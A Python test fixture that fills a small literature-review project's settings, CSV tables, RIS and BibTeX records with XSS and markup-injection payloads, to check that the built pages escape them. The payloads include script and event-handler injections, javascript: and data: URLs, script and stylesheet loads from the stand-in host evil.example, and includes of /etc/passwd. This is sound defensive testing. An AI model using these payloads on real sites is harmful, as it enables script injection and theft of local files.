"""A review in which everybody means harm: each text of its records, tables and settings carries something that would run.

Laid over the tiny topic, so that it builds in seconds. What a payload would do is a dialog, a request to another host or
another page, which `test_hostile.py` listens for.
"""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import yaml

# No figures in them: a claim or a sentence may not hold any, and these go everywhere.
PAYLOADS = (
    "<script>alert(document.domain)</script>",
    "<img src=x onerror=alert(document.domain)>",
    '"><svg onload=alert(document.domain)>',
    "' onmouseover=alert(document.domain) autofocus onfocus=alert(document.domain) '",
    "</title></textarea></script><script src=//evil.example/x.js></script>",
    '<meta http-equiv=refresh content=";url=https://evil.example/">',
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/y.css'</style>",
    "<iframe srcdoc='<script>parent.alert(document.domain)</script>'></iframe>",
    "![x](https://evil.example/x.png) [x](javascript:alert(document.domain))",
    "<javascript:alert(document.domain)> <https://evil.example/a[b]>",
    "```{raw} html\n<script>alert(document.domain)</script>\n```",
    "{raw}`html <script>alert(document.domain)</script>` {download}`/etc/passwd`",
    ":::{include} /etc/passwd\n:::",
    "{{ config }} {% raw %} {eval-rst} |x| %{x} ${x}",
    "<!-- ]]> --!> <![CDATA[ <x>",
    "$\\href{javascript:alert(document.domain)}{x}$ $$\\input{/etc/passwd}$$",
    '#read("/etc/passwd") #link("https://evil.example") @ref <label> *_`',
    "\u202eevil\u2066 \u2028 \x1b[31m \x07 \x00 \x85 \ufeff",
    "# heading\n\n- list\n\n| a | b |\n|---|---|\n\n---\n\n(target)=\n",
    "&lt;script&gt;alert(document.domain)&lt;/script&gt; &#x3c;img src=x onerror=alert(document.domain)&#x3e;",
    "__proto__ constructor toString <template><script>alert(document.domain)</script></template>",
)
ADDRESSES = (
    "javascript:alert(document.domain)", "http://[", "https://evil.example/[x](y)\"><script>alert(document.domain)</script>",
    "data:text/html,<script>alert(document.domain)</script>", "//evil.example/x", "https://a b/\n<x>", "vbscript:x", "http://[::1]:port/]",
)  # fmt: skip
# Keys whose texts are names that other files refer to, or words with a meaning of their own.
_NAMES = {
    "id", "version", "role", "unit", "kind", "test", "by", "directness", "defaults", "not_from", "where", "when", "side", "scope", "rule", "evidence_date", "year",
    "quantifiers", "ingest", "deduplicate", "classify", "extract", "synthesise", "sentences", "next_update",
    "phrases", "bottom_line",
}  # fmt: skip
# In these a word in braces is a slot, and an unknown one or a lone brace is refused with a message.
_TEMPLATES = {"testable"}
_NO_SLOTS = str.maketrans("{}", "()")


def lay(folder: Path) -> None:
    """Make the tiny review in `folder` hostile: its settings, its tables and its exports."""
    turns = itertools.cycle(PAYLOADS)
    for path in sorted((folder / "config").glob("*.yaml")):
        data = _poisoned(yaml.safe_load(path.read_text(encoding="utf-8")), turns)
        path.write_text(yaml.safe_dump(data, allow_unicode=False, sort_keys=False), encoding="utf-8")
    literature = folder / "literature"
    _table(literature / "case_studies" / "extracts.csv", {"case_name", "place", "period", "paraphrase", "locator", "source", "organisation_sector"}, turns)  # fmt: skip
    _table(literature / "effects" / "effects.csv", {"study_label", "comparison", "outcome_measure", "precision_basis", "source", "licence", "note"}, turns)  # fmt: skip
    _table(literature / "decisions" / "screening.csv", {"reason", "basis"}, turns)
    _table(literature / "decisions" / "coding.csv", {"note"}, turns)
    (literature / "records" / "hostile.ris").write_text(_ris(), encoding="utf-8")
    (literature / "records" / "<img src=x onerror=alert(document.domain)>.bib").write_text(
        _bib(), encoding="utf-8"
    )


def _poisoned(value: Any, turns: Iterator[str]) -> Any:
    if isinstance(value, dict):
        poisoned = {k: v if k in _NAMES else _poisoned(v, turns) for k, v in value.items()}
        return poisoned | {k: poisoned[k].translate(_NO_SLOTS) for k in _TEMPLATES & poisoned.keys()}
    if isinstance(value, list):
        return [_poisoned(v, turns) for v in value]
    return f"{value} {next(turns)}" if isinstance(value, str) else value


def _table(path: Path, columns: set[str], turns: Iterator[str]) -> None:
    """One payload a column, so that rows that were comparable still are, and pools are made."""
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    added = {name: next(turns) for name in sorted(columns & rows[0].keys())}
    for row in rows:
        row |= {name: f"{row[name]} {text}" for name, text in added.items()}
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, rows[0].keys(), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


def _ris() -> str:
    """A record for every payload, in every field that a page shows; addresses in turn."""
    entries = []
    for number, (payload, address) in enumerate(zip(PAYLOADS, itertools.cycle(ADDRESSES), strict=False)):
        flat, place = " ".join(payload.split()), " ".join(address.split())
        tags = {
            "ID": f"h{number}{flat}", "TI": f"Study {number} of {flat}", "AU": f"Evil{flat}, Ann", "T2": f"Journal {flat}",
            "PY": "2001", "VL": flat, "SP": flat, "AB": f"{flat} abstract", "KW": flat, "UR": place, "DO": f"10.1000/{place}{number}",
            "N1": flat, "PB": flat,
        }  # fmt: skip
        entries.append("TY  - JOUR\n" + "".join(f"{k}  - {v}\n" for k, v in tags.items()) + "ER  - \n")
    return "\n".join(entries)


def _bib() -> str:
    return "\n".join(
        f"@article{{b{number}, title={{Paper {number} {payload}}}, author={{{{{payload}}}}}, journal={{{payload}}}, year=2002, "
        f"url={{{ADDRESSES[number % len(ADDRESSES)]}}}}}"
        for number, payload in enumerate(PAYLOADS)
        if payload.count("{") == payload.count("}")
    )
